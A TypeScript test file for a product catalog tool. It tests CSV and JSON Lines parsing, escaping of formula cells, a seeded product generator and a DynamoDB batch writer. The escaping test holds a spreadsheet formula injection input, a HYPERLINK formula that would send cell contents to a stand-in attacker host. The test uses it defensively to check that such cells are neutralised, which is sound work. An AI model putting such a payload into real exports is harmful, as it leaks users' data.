import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
import { BatchWriteFailed, writeAll } from '../../src/catalog/batch-writer.js';
import { parse } from 'csv-parse/sync';
import { csvHeader, escapeFormula, productLine, readRows, unescapeFormula, type Row } from '../../src/catalog/files.js';
import { generateProducts } from '../../src/catalog/generate.js';
import { validateStored } from '../../runtime/catalog/product.js';

const tmp = (name: string, text: string): string => {
  const file = join(mkdtempSync(join(tmpdir(), 'projet1-files-')), name);
  writeFileSync(file, text);
  return file;
};
const collect = async (file: string, format: 'jsonl' | 'csv' | 'json'): Promise<Row[]> => {
  const rows: Row[] = [];
  for await (const r of readRows(file, format)) rows.push(r);
  return rows;
};

describe('CSV and JSON Lines', () => {
  it('parses quoted cells with commas, quotes and newlines', async () => {
    const rows = await collect(tmp('q.csv', 'name,category,description,stock\na,"b, c","say ""hi""",\n'), 'csv');
    assert.deepEqual(rows[0]?.record, { name: 'a', category: 'b, c', description: 'say "hi"' });
  });

  it('reports an unclosed quote at its line, once', async () => {
    const rows = await collect(tmp('q.csv', 'name,category\na,b\n"c,d\n'), 'csv');
    assert.equal(rows.at(-1)?.line, 3, 'where the quote opens');
    assert.match(
      String((rows.at(-1)?.record as { parseError?: string } | undefined)?.parseError),
      /not valid CSV \(Quote Not Closed/,
    );
  });

  it('round-trips products through CSV, quoted newlines included, across many read chunks', async () => {
    // ~1 MB: the stream's 64 KB chunks end mid-record many times, some inside quotes.
    const products = [...generateProducts(3000, 3)].map((p, i) => ({
      ...p,
      name: `Lamp, "Deluxe" ${i}`,
      description: `line one\n${'x'.repeat(i % 300)}\nline three`,
    }));
    const file = tmp('p.csv', csvHeader() + products.map((p) => productLine(p, 'csv')).join(''));
    const rows = await collect(file, 'csv');
    assert.equal(rows.length, 3000);
    assert.deepEqual(
      rows.slice(0, 3).map((r) => r.line),
      [2, 5, 8],
    );
    rows.forEach((r, i) => {
      const back = validateStored(r.record);
      assert.ok(back.ok, `row ${i}`);
      if (back.ok) assert.deepEqual(back.value, products[i]);
    });
  });

  it('reports bad lines with their numbers', async () => {
    const jsonl = await collect(tmp('p.jsonl', '{"name":"a"}\n\nnot json\n[1]\n'), 'jsonl');
    assert.deepEqual(
      jsonl.map((r) => [r.line, 'parseError' in r.record]),
      [
        [1, false],
        [3, true],
        [4, true],
      ],
    );
    const csv = await collect(tmp('p.csv', 'name,category,price,stock\na,b,1,2\nonly,two\n'), 'csv');
    assert.deepEqual(
      csv.map((r) => r.line),
      [2, 3],
    );
    assert.match(
      String((csv[1]?.record as { parseError: string } | undefined)?.parseError),
      /2 cells, the header has 4/,
    );
    const header = await collect(tmp('p.csv', 'name,colour\n'), 'csv');
    assert.match(
      String((header[0]?.record as { parseError: string } | undefined)?.parseError),
      /unknown column\(s\) colour/,
    );
  });

  it('escapes formula-like cells with a leading quote and reads them back unchanged', async () => {
    const texts = [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      "'=already quoted by the user",
      "''=two quotes",
      '\tleading tab',
      '=',
      "'",
      "'plain quote, kept",
      'a=b, not a formula',
    ];
    const products = [...generateProducts(texts.length, 7)].map((p, i) => ({
      ...p,
      product_id: i === 2 ? '-starts-with-dash' : p.product_id,
      // A name is one line: the tab goes in the description only.
      name: (texts[i] ?? '').replace('\t', ''),
      category: i % 2 === 0 ? '@home' : 'lamps',
      description: texts[i] ?? '',
    }));
    const text = csvHeader() + products.map((p) => productLine(p, 'csv')).join('');
    // What a spreadsheet sees: no cell starts with = + - @ or a tab.
    const cells = (parse(text, { from_line: 2 }) as string[][]).flat();
    assert.deepEqual(
      cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
      [],
    );
    assert.ok(cells.includes(`'=HYPERLINK("http://evil.example/?"&A1,"x")`));
    assert.ok(cells.includes(`''=already quoted by the user`), "a user's own quote before = gets one more");
    assert.ok(cells.includes(`'plain quote, kept`), 'a quote before anything else is left alone');
    const rows = await collect(tmp('f.csv', text), 'csv');
    rows.forEach((r, i) => {
      const back = validateStored(r.record);
      assert.ok(back.ok, `row ${i}: ${JSON.stringify(r.record)}`);
      if (back.ok) assert.deepEqual(back.value, products[i]);
    });
  });

  it("import reads a hand-written '= as =, as a spreadsheet shows it, and keeps any other leading quote", () => {
    assert.equal(unescapeFormula(`'=1+1`), '=1+1');
    assert.equal(unescapeFormula(`'-5`), '-5');
    assert.equal(unescapeFormula(`'tis the season`), `'tis the season`);
    assert.equal(unescapeFormula('=1+1'), '=1+1', 'an unescaped cell is read as it is');
    for (const v of ['=x', `'=x`, `''@x`, `'x`, 'x', `'`, '', '-', '\tx', '\r\nx'])
      assert.equal(unescapeFormula(escapeFormula(v)), v, JSON.stringify(v));
  });

  it('keeps prices exact through CSV', async () => {
    const rows = await collect(tmp('p.csv', 'name,category,price,stock\na,b,0.10,1\nc,d,123456789.99,0\n'), 'csv');
    assert.deepEqual(
      rows.map((r) => (r.record as { price: number }).price),
      [0.1, 123456789.99],
    );
  });
});

describe('generateProducts', () => {
  it('is reproducible from its seed and gives valid, varied products', () => {
    const a = [...generateProducts(500, 42)];
    assert.deepEqual(a, [...generateProducts(500, 42)]);
    assert.notDeepEqual(a[0], [...generateProducts(1, 43)][0]);
    assert.equal(new Set(a.map((p) => p.product_id)).size, 500);
    assert.ok(new Set(a.map((p) => p.category)).size >= 6);
    for (const p of a) assert.ok(validateStored(p).ok, JSON.stringify(p));
  });
});

describe('writeAll', () => {
  const fake = (unprocessedRounds: number) => {
    const batches: number[] = [];
    let round = 0;
    const doc = {
      send: async (cmd: { input: { RequestItems: Record<string, unknown[]> } }) => {
        const items = cmd.input.RequestItems.t ?? [];
        batches.push(items.length);
        // Throttling, as DynamoDB reports it: part of the batch comes back unprocessed.
        if (round++ < unprocessedRounds) return { UnprocessedItems: { t: items.slice(0, 5) } };
        return { UnprocessedItems: {} };
      },
    } as unknown as DynamoDBDocumentClient;
    return { doc, batches };
  };

  it('writes in groups of 25 and resends unprocessed items', async () => {
    const { doc, batches } = fake(2);
    const sleeps: number[] = [];
    const p = await writeAll(doc, 't', generateProducts(60, 1), {
      concurrency: 1,
      sleep: async (ms) => void sleeps.push(ms),
    });
    assert.equal(p.written, 60);
    assert.equal(p.retries, 2);
    assert.deepEqual(batches, [25, 5, 5, 25, 10]);
    assert.equal(sleeps.length, 2);
  });

  it('gives up on items that stay unprocessed, saying how many were written', async () => {
    const { doc } = fake(1000);
    await assert.rejects(
      writeAll(doc, 't', generateProducts(30, 1), { concurrency: 2, maxAttempts: 3, sleep: async () => undefined }),
      (err: unknown) => {
        assert.ok(err instanceof BatchWriteFailed);
        assert.match(err.message, /not written/);
        return true;
      },
    );
  });
});
